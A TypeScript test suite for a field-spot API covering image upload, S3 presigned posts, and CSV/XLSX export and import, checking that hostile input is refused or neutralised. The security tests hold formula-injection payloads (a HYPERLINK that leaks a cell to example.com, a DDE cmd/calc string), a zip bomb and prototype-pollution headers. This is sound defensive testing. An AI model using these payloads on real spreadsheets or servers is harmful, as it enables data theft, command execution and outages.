// Spec 1, "Spots": images (PUT with form field img, GET by query or path, presigned S3 POST) and
// sheets (GET export, POST import with codes 51-55 and 12). Exported files are opened with
// exceljs, a library independent of the one that writes them.
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { v1 as uuidV1 } from 'uuid';
import { describe, expect, it } from 'vitest';
import { call, createField, download as downloadFile, internal, newUser, square, type TestUser } from './helpers/api';
import * as hostile from './helpers/hostile-files';

const FIELD = square(-60.5, -33.9, 0.02);
const POINT = 'POINT(-60.499 -33.895)';
// A 1x1 PNG.
const PNG = Buffer.from(
  '89504e470d0a1a0a0000000d4948445200000001000000010806000000' +
    '1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082',
  'hex',
);

async function spotWithImage(user?: TestUser) {
  const owner = user ?? (await newUser());
  const { fieldId } = await createField(owner, { shape: FIELD });
  const img = uuidV1();
  const message = uuidV1();
  const response = await call('POST', '/spots/spot', {
    token: owner.token,
    json: {
      field_id: fieldId,
      shape: POINT,
      texts: [
        {
          uuid: message,
          text: 'foto',
          timestamp_usr: '2026-05-10T10:00:00Z',
          imgs: [{ coordinate: POINT, uuid: img }],
        },
      ],
    },
  });
  return { owner, fieldId, img, message, spot: response.body.spot_uuid as string };
}

const upload = (user: TestUser, uuid: string, content: Buffer, type = 'image/png', field = 'img') => {
  const form = new FormData();
  form.set(field, new Blob([content], { type }), 'photo.png');
  return call('PUT', '/api/spots/msgs/imgs', { token: user.token, query: { uuid }, body: form });
};

const download = (user: TestUser, path: string, query?: Record<string, string>) =>
  downloadFile('GET', path, { token: user.token, ...(query ? { query } : {}) });

describe('spot images', () => {
  it('uploads a declared image and downloads the same bytes by query and by path', async () => {
    const { owner, img } = await spotWithImage();
    const stored = await upload(owner, img, PNG);
    expect(stored.status).toBe(200);
    expect(stored.body).toEqual({ uuid: img, stored: true, size: PNG.length });
    const byQuery = await download(owner, '/api/spots/msgs/imgs', { uuid: img });
    expect(byQuery).toMatchObject({ status: 200, type: 'image/png' });
    expect(byQuery.bytes.equals(PNG)).toBe(true);
    const byPath = await download(owner, `/api/spots/msgs/imgs/${img}`);
    expect(byPath.bytes.equals(PNG)).toBe(true);
    // the same operations without the /api prefix
    for (const [path, query] of [
      ['/spots/msgs/imgs', { uuid: img }],
      [`/spots/msgs/imgs/${img}`, undefined],
    ] as const) {
      const got = await download(owner, path, query);
      expect([got.status, got.type, got.bytes.equals(PNG)], path).toEqual([200, 'image/png', true]);
    }
  });

  it('refuses images not declared in a text (51) and files that are not images (51)', async () => {
    const { owner, img } = await spotWithImage();
    const undeclared = await upload(owner, uuidV1(), PNG);
    expect(undeclared.status).toBe(400);
    expect(undeclared.body).toMatchObject({ code: 51, info: 'image could not be stored' });
    const notImage = await upload(owner, img, Buffer.from('hello'), 'text/plain');
    expect([notImage.status, notImage.body.code]).toEqual([400, 51]);
    const wrongField = await upload(owner, img, PNG, 'image/png', 'photo');
    expect([wrongField.status, wrongField.body.code]).toEqual([400, 51]);
  });

  it("answers 404 'File not found' for unknown and not yet uploaded images", async () => {
    const { owner, img } = await spotWithImage();
    const unknown = await call('GET', '/api/spots/msgs/imgs', { token: owner.token, query: { uuid: uuidV1() } });
    expect([unknown.status, unknown.body]).toEqual([404, { code: 404, info: 'File not found' }]);
    const pending = await call('GET', `/api/spots/msgs/imgs/${img}`, { token: owner.token });
    expect([pending.status, pending.body]).toEqual([404, { code: 404, info: 'File not found' }]);
  });

  it("keeps images of another user's spots out of reach", async () => {
    const { owner, img } = await spotWithImage();
    await upload(owner, img, PNG);
    const stranger = await newUser();
    const read = await call('GET', '/api/spots/msgs/imgs', { token: stranger.token, query: { uuid: img } });
    expect([read.status, read.body]).toEqual([404, { code: 404, info: 'File not found' }]);
    expect(read.text).not.toContain(owner.uid);
    // an upload to it is answered as one to an image nobody declared (nothing tells it exists)
    const refused = await upload(stranger, img, PNG);
    const undeclared = await upload(stranger, uuidV1(), PNG);
    expect([refused.status, refused.body]).toEqual([undeclared.status, undeclared.body]);
  });

  it('uploads large photos straight to S3 with a presigned POST', async () => {
    const { owner, img } = await spotWithImage();
    const presign = (path: string) =>
      call('POST', path, { token: owner.token, query: { uuid: img, content_type: 'image/jpeg' } });
    // the same operation without the /api prefix
    const unprefixed = await presign('/spots/msgs/imgs/upload');
    expect([unprefixed.status, unprefixed.body.max_bytes]).toEqual([200, 25 * 1024 * 1024]);
    const presigned = await presign('/api/spots/msgs/imgs/upload');
    expect(presigned.status).toBe(200);
    expect(presigned.body).toMatchObject({
      url: expect.stringMatching(/^http/),
      expires_in: 300,
      max_bytes: 25 * 1024 * 1024,
    });
    const policy = JSON.parse(Buffer.from(presigned.body.fields.Policy, 'base64').toString());
    expect(policy.conditions).toContainEqual(['content-length-range', 1, 25 * 1024 * 1024]);
    expect(policy.conditions).toContainEqual(['eq', '$Content-Type', 'image/jpeg']);
    const expiresIn = (Date.parse(policy.expiration) - Date.now()) / 1000;
    expect(expiresIn).toBeGreaterThan(250);
    expect(expiresIn).toBeLessThanOrEqual(300);
    const form = new FormData();
    for (const [key, value] of Object.entries(presigned.body.fields as Record<string, string>)) form.set(key, value);
    form.set('file', new Blob([PNG], { type: 'image/jpeg' }), 'big.jpg');
    const s3 = await fetch(presigned.body.url, { method: 'POST', body: form });
    expect(s3.status).toBeLessThan(300);
    const got = await download(owner, '/api/spots/msgs/imgs', { uuid: img });
    expect(got.status).toBe(200);
    expect(got.bytes.equals(PNG)).toBe(true);
  });

  it('deletes the images of a deleted message, and of a deleted spot (worker)', async () => {
    const { owner, img, message } = await spotWithImage();
    await upload(owner, img, PNG);
    await call('DELETE', '/api/spots/msgs', { token: owner.token, query: { uuid: message } });
    expect((await call('GET', '/api/spots/msgs/imgs', { token: owner.token, query: { uuid: img } })).status).toBe(404);
    const other = await spotWithImage(owner);
    await upload(owner, other.img, PNG);
    await call('DELETE', '/spots/spot', { token: owner.token, query: { uuid: other.spot } });
    const deadline = performance.now() + 15_000;
    let status = 0;
    while (performance.now() < deadline) {
      status = (await call('GET', '/api/spots/msgs/imgs', { token: owner.token, query: { uuid: other.img } })).status;
      if (status === 404) break;
      await new Promise((r) => setTimeout(r, 300));
    }
    expect(status).toBe(404);
  });
});

// --- sheets ----------------------------------------------------------------------------------

const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

async function spotsWithVariables() {
  const owner = await newUser();
  const { fieldId } = await createField(owner, { shape: FIELD });
  const spots: string[] = [];
  for (const [i, ph] of [6.1, 6.8].entries()) {
    const response = await call('POST', '/spots/spot', {
      token: owner.token,
      json: {
        field_id: fieldId,
        shape: `POINT(${-60.499 + i * 0.001} -33.895)`,
        name: `S${i}`,
        data: {
          variables: [
            { name: 'pH', unit_id: 8, value: ph },
            { name: 'P', unit_id: 2, value: 10 + i },
          ],
        },
      },
    });
    spots.push(response.body.spot_uuid);
  }
  return { owner, fieldId, spots };
}

const sheetForm = (content: Buffer | string, filename: string) => {
  const form = new FormData();
  form.set('sheet', new Blob([content]), filename);
  return form;
};
const importSheet = (user: TestUser, content: Buffer | string, filename: string) =>
  call('POST', '/api/spots/sheet', { token: user.token, body: sheetForm(content, filename) });
const spotData = async (user: TestUser, uuid: string) =>
  (await call('GET', '/api/spots/spot', { token: user.token, query: { uuid } })).body.data[0].spot_data.variables;

describe('spot sheets', () => {
  it('exports xlsx that an independent reader opens, and an edited copy imports back', async () => {
    const { owner, spots } = await spotsWithVariables();
    const exported = await download(owner, '/api/spots/sheet');
    expect(exported.status).toBe(200);
    expect(exported.type).toBe(XLSX_TYPE);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(exported.bytes as never);
    const sheet = book.worksheets[0]!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(header.slice(0, 2)).toEqual(['Service_Spot_ID', 'Code']);
    expect(header).toContain('pH [pH]');
    expect(header).toContain('P [ppm]');
    const phColumn = header.indexOf('pH [pH]') + 1;
    const rows = new Map<string, number>();
    sheet.eachRow((row, number) => {
      if (number > 1) rows.set(String(row.getCell(1).value), number);
    });
    expect([...rows.keys()].sort()).toEqual([...spots].sort());
    expect(sheet.getRow(rows.get(spots[0]!)!).getCell(phColumn).value).toBe(6.1);

    // edit: new pH values and a new column
    sheet.getRow(rows.get(spots[0]!)!).getCell(phColumn).value = 7.2;
    sheet.getRow(rows.get(spots[1]!)!).getCell(phColumn).value = 5.9;
    const nColumn = header.length + 1;
    sheet.getRow(1).getCell(nColumn).value = 'N [ppm]';
    sheet.getRow(rows.get(spots[0]!)!).getCell(nColumn).value = 21;
    const edited = Buffer.from(await book.xlsx.writeBuffer());
    const response = await importSheet(owner, edited, 'edited.xlsx');
    expect(response.status).toBe(200);
    expect(response.body.variables).toMatchObject({
      pH: { name: 'pH', unit_id: 8, unit: 'pH', values: 2 },
      P: { name: 'P', unit_id: 2, unit: 'ppm', values: 2 },
      N: { name: 'N', unit_id: 2, unit: 'ppm', values: 1 },
    });
    expect(await spotData(owner, spots[0]!)).toEqual(
      expect.arrayContaining([
        { name: 'pH', unit_id: 8, value: 7.2 },
        { name: 'P', unit_id: 2, value: 10 },
        { name: 'N', unit_id: 2, value: 21 },
      ]),
    );
    expect(await spotData(owner, spots[1]!)).toContainEqual({ name: 'pH', unit_id: 8, value: 5.9 });
  });

  it('exports and imports csv, with decimal commas read as numbers', async () => {
    const { owner, spots } = await spotsWithVariables();
    const csv = await download(owner, '/api/spots/sheet', { format: 'csv' });
    expect(csv.type).toMatch(/^text\/csv/);
    const lines = csv.bytes.toString('utf8').trim().split('\n');
    expect(lines[0]).toMatch(/^Service_Spot_ID,Code,/);
    expect(lines).toHaveLength(3);
    const body = `Service_Spot_ID;Humedad [%]\n${spots[0]};"12,5"\n${spots[1]};13\n`;
    const response = await importSheet(owner, body, 'humedad.csv');
    expect(response.status).toBe(200);
    expect(response.body.variables.Humedad).toMatchObject({ unit_id: 1, values: 2 });
    expect(await spotData(owner, spots[0]!)).toContainEqual({ name: 'Humedad', unit_id: 1, value: 12.5 });
  });

  it('exports csv that imports back with accented names and line breaks in names intact (UTF-8, no byte-order mark), and imports Windows-1252 and UTF-16', async () => {
    const { owner, spots } = await spotsWithVariables();
    // a line break inside a name is quoted in the csv, so the rows and columns after it stay in place
    const variables = [
      { name: 'Fósforo', unit_id: 2, value: 12 },
      { name: 'K\rtotal', unit_id: 2, value: 3 },
      { name: 'Zinc', unit_id: 2, value: 4 },
    ];
    const patched = await call('PATCH', '/api/spots/variables', {
      token: owner.token,
      json: { uuid: spots[0], variables },
    });
    expect(patched.status, patched.text).toBe(200);
    const exported = await download(owner, '/api/spots/sheet', { format: 'csv' });
    expect(exported.bytes.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(false);
    expect(exported.bytes.toString('utf8')).toContain('Fósforo [ppm]');
    await call('PATCH', '/api/spots/variables', { token: owner.token, json: { uuid: spots[0], variables: [] } });
    const utf8 = await importSheet(owner, exported.bytes, 'spots.csv');
    expect(utf8.status, utf8.text).toBe(200);
    expect(utf8.body.variables.Fósforo).toMatchObject({ name: 'Fósforo', unit_id: 2, values: 1 });
    expect(await spotData(owner, spots[0]!)).toEqual(expect.arrayContaining(variables));
    // what Excel on a Spanish Windows saves "as CSV": Windows-1252, semicolons, decimal commas
    const text = `Service_Spot_ID;Nitrógeno [ppm];Nota\r\n${spots[1]};"7,5";"línea 1\r\nlínea 2"\r\n`;
    const windows1252 = Buffer.from(text.replace(/ó/g, '\u00f3').replace(/í/g, '\u00ed'), 'latin1');
    expect(windows1252.includes(Buffer.from('ó', 'utf8'))).toBe(false);
    const legacy = await importSheet(owner, windows1252, 'excel.csv');
    expect(legacy.status, legacy.text).toBe(200);
    expect(legacy.body.variables).toEqual({
      Nitrógeno: { name: 'Nitrógeno', unit_id: 2, unit: 'ppm', values: 1 },
      Nota: null,
    });
    expect(await spotData(owner, spots[1]!)).toContainEqual({ name: 'Nitrógeno', unit_id: 2, value: 7.5 });
    // what Excel saves as "Unicode text": UTF-16 with its byte-order mark, tabs
    const utf16 = Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from(`Service_Spot_ID\tMagnesio [ppm]\r\n${spots[1]}\t0,75\r\n`, 'utf16le'),
    ]);
    const unicode = await importSheet(owner, utf16, 'unicode.csv');
    expect(unicode.status, unicode.text).toBe(200);
    expect(await spotData(owner, spots[1]!)).toContainEqual({ name: 'Magnesio', unit_id: 2, value: 0.75 });
  });

  it('filters the export like the lists (field, tag)', async () => {
    const { owner, fieldId } = await spotsWithVariables();
    const other = await createField(owner, { shape: square(-60.3, -33.9, 0.02) });
    await call('POST', '/spots/spot', {
      token: owner.token,
      json: { field_id: other.fieldId, shape: 'POINT(-60.299 -33.895)' },
    });
    const filtered = await download(owner, '/api/spots/sheet', { format: 'csv', field_id: String(fieldId) });
    expect(filtered.bytes.toString().trim().split('\n')).toHaveLength(3);
    const everything = await download(owner, '/api/spots/sheet', { format: 'csv' });
    expect(everything.bytes.toString().trim().split('\n')).toHaveLength(4);
  });

  it('answers the codes of the spec: 51, 52, 53, 54, 55 and 12', async () => {
    const { owner, fieldId, spots } = await spotsWithVariables();
    const cases: Array<[Buffer | string, string, number, string]> = [
      ['a,b\n1,2\n', 'data.txt', 51, 'file format not supported. It must be one of .csv, .xls, .xlsx'],
      [Buffer.from('PK\u0003\u0004 this is not a workbook'), 'broken.xlsx', 52, 'error loading sheet'],
      [`Spot,pH [pH]\n${spots[0]},6\n`, 'no-column.csv', 53, 'missing column: Service_Spot_ID'],
      [`Service_Spot_ID,pH [pH]\nnot-a-uuid,6\n${uuidV1()},7\n`, 'unknown.csv', 54, 'No valid record was found'],
      [
        `Service_Spot_ID,Notes,Depth [furlongs]\n${spots[0]},good,3\n`,
        'novars.csv',
        55,
        'No valid variables were found',
      ],
    ];
    for (const [content, filename, code, info] of cases) {
      const response = await importSheet(owner, content, filename);
      expect(response.status).toBe(400);
      expect(response.body).toMatchObject({ code, info });
    }
    // an xlsx whose sheet inflates to 80 MiB (80 KB sent) is refused before it is read
    const bomb = new JSZip();
    bomb.file('xl/worksheets/sheet1.xml', Buffer.alloc(80 * 1024 * 1024, 0x20));
    const inflated = await importSheet(
      owner,
      await bomb.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' }),
      'bomb.xlsx',
    );
    expect(inflated.status).toBe(400);
    expect(inflated.body).toMatchObject({ code: 52, info: 'error loading sheet' });
    expect(JSON.stringify(inflated.body)).toMatch(/more than 64 MiB uncompressed/);
    const reader = await newUser();
    await internal('/internal/shares', { user_id: reader.id, field_id: fieldId, permission: 'read' });
    const refused = await importSheet(reader, `Service_Spot_ID,pH [pH]\n${spots[0]},6\n`, 'mine.csv');
    expect([refused.status, refused.body.code]).toEqual([403, 12]);
    expect(await spotData(owner, spots[0]!)).toContainEqual({ name: 'pH', unit_id: 8, value: 6.1 });
    // a spot the user cannot see at all is just not a valid record
    const stranger = await newUser();
    expect((await importSheet(stranger, `Service_Spot_ID,pH [pH]\n${spots[0]},6\n`, 'theirs.csv')).body.code).toBe(54);
  });

  it("exports a collaborator's formula-like spot names inert: an apostrophe first in csv (OWASP), text cells in xlsx", async () => {
    const { owner, fieldId } = await spotsWithVariables();
    const collaborator = await newUser();
    await internal('/internal/shares', { user_id: collaborator.id, field_id: fieldId, permission: 'edit' });
    const names = ['=HYPERLINK("https://example.com/?d="&A1,"Ver")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|x!A0'];
    for (const [i, name] of names.entries()) {
      const created = await call('POST', '/spots/spot', {
        token: collaborator.token,
        json: { field_id: fieldId, shape: `POINT(${-60.495 + i * 0.001} -33.896)`, name },
      });
      expect(created.status).toBe(200);
    }
    const csv = (await download(owner, '/api/spots/sheet', { format: 'csv' })).bytes.toString('utf8');
    for (const name of names) expect(csv).toContain(`"'${name.replaceAll('"', '""')}"`);
    expect(csv.split('\n').some((line) => /(^|,)[=+@]/.test(line))).toBe(false);
    expect(csv).toMatch(/,-60\.49\d*,-33\.89\d*,/); // negative numbers are numbers, not escaped

    const xlsx = (await download(owner, '/api/spots/sheet')).bytes;
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx as never);
    const cells = new Map<string, ExcelJS.Cell>();
    book.worksheets[0]!.eachRow((row) => {
      cells.set(String(row.getCell(3).value), row.getCell(3));
    });
    for (const name of names) {
      expect(cells.get(name)?.type).toBe(ExcelJS.ValueType.String);
      expect(cells.get(name)?.formula).toBeUndefined();
    }
    const sheetXml = await (await JSZip.loadAsync(xlsx)).file('xl/worksheets/sheet1.xml')!.async('string');
    expect(sheetXml).not.toMatch(/<f[ >]/);
  });

  it('refuses hostile workbooks (shared strings, cells, columns) with 52 within 2 s', async () => {
    const { owner } = await spotsWithVariables();
    await importSheet(owner, 'Service_Spot_ID,pH [pH]\n', 'warm.csv'); // a cold function is not what is timed
    for (const file of [
      hostile.sharedStringsBomb(),
      hostile.sharedStringRunsBomb(),
      hostile.cellsBomb(),
      hostile.wideSheet(),
    ]) {
      const started = Date.now();
      const response = await importSheet(owner, file.content, file.filename);
      expect([file.label, response.status, response.body.code]).toEqual([file.label, 400, 52]);
      expect(Date.now() - started).toBeLessThan(2000);
    }
  });

  it('reports a variable that cannot be uploaded as null and uploads the others', async () => {
    const { owner, spots } = await spotsWithVariables();
    const response = await importSheet(
      owner,
      `Service_Spot_ID,K [ppm],Color,Depth [furlongs]\n${spots[0]},150,red,3\n`,
      'mixed.csv',
    );
    expect(response.body.variables).toEqual({
      K: { name: 'K', unit_id: 2, unit: 'ppm', values: 1 },
      Color: null,
      Depth: null,
    });
  });

  it('is not polluted by crafted headers', async () => {
    const { owner, spots } = await spotsWithVariables();
    const response = await importSheet(
      owner,
      `Service_Spot_ID,__proto__ [ppm],constructor [ppm]\n${spots[0]},1,2\n`,
      'proto.csv',
    );
    expect(response.status).toBe(200);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.keys(response.body.variables).sort()).toEqual(['__proto__', 'constructor']);
  });

  it('answers 52 when the content is not what the extension says', async () => {
    const { owner, spots } = await spotsWithVariables();
    const csvText = `Service_Spot_ID,pH [pH]\n${spots[0]},6\n`;
    for (const filename of ['sheet.xlsx', 'sheet.xls']) {
      const response = await importSheet(owner, csvText, filename);
      expect([response.status, response.body.code, response.body.info], filename).toEqual([
        400,
        52,
        'error loading sheet',
      ]);
    }
    const xlsx = (await download(owner, '/api/spots/sheet')).bytes;
    const asCsv = await importSheet(owner, xlsx, 'sheet.csv');
    expect([asCsv.status, asCsv.body.code]).toEqual([400, 52]);
    expect(await spotData(owner, spots[0]!)).toContainEqual({ name: 'pH', unit_id: 8, value: 6.1 });
  });

  it('round-trips its export through the import: names with parentheses, and every digit of a value in csv', async () => {
    const { owner, spots } = await spotsWithVariables();
    const values = [0.000000123456789, 123456789012345680000, 1 / 3, -2.5e-7];
    const patched = await call('PATCH', '/api/spots/variables', {
      token: owner.token,
      json: {
        uuid: spots[0],
        variables: [
          { name: 'ph (agua)', unit_id: 8, value: 6.5 },
          ...values.map((value, i) => ({ name: `v${i}`, unit_id: 0, value })),
        ],
      },
    });
    expect(patched.status, patched.text).toBe(200);
    for (const format of ['csv', 'xlsx'] as const) {
      const exported = await download(owner, '/api/spots/sheet', { format });
      if (format === 'csv') {
        const text = exported.bytes.toString('utf8');
        for (const digits of ['0.000000123456789', '123456789012345680000', '0.3333333333333333', '-0.00000025'])
          expect(text).toContain(digits);
      }
      // clear the values, then import the export: they come back under the same names, exactly
      await call('PATCH', '/api/spots/variables', { token: owner.token, json: { uuid: spots[0], variables: [] } });
      const response = await importSheet(owner, exported.bytes, `spots.${format}`);
      expect(response.status, format).toBe(200);
      expect(response.body.variables['ph (agua)'], format).toMatchObject({ name: 'ph (agua)', unit_id: 8 });
      const data = await spotData(owner, spots[0]!);
      expect(data, format).toContainEqual({ name: 'ph (agua)', unit_id: 8, value: 6.5 });
      for (const [i, value] of values.entries()) {
        expect(data, `${format} v${i}`).toContainEqual({ name: `v${i}`, unit_id: 0, value });
      }
    }
  });
});
